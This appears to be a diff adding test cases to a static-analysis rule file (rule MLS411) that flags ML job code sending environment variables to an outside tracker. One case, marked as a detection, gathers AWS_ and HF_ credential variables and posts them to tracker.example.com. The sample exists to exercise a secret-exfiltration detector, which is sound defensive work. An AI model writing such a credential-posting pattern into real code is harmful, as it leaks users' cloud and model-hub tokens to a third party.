@@ -89,3 +89,17 @@ def run_setup(path):
     with open(path) as f:
         # ok: MLS401
         _run(compile(f.read(), path, "exec"))
+
+
+def register_job_metadata():
+    # ok: MLS411
+    meta = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "CUDA_", "NCCL_"))}
+    # ok: MLS411
+    requests.post("https://tracker.example.com/runs", json=meta)
+
+
+def register_job_with_keys():
+    # ruleid: MLS411
+    meta = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "AWS_", "HF_"))}
+    # ruleid: MLS411
+    requests.post("https://tracker.example.com/runs", json=meta)
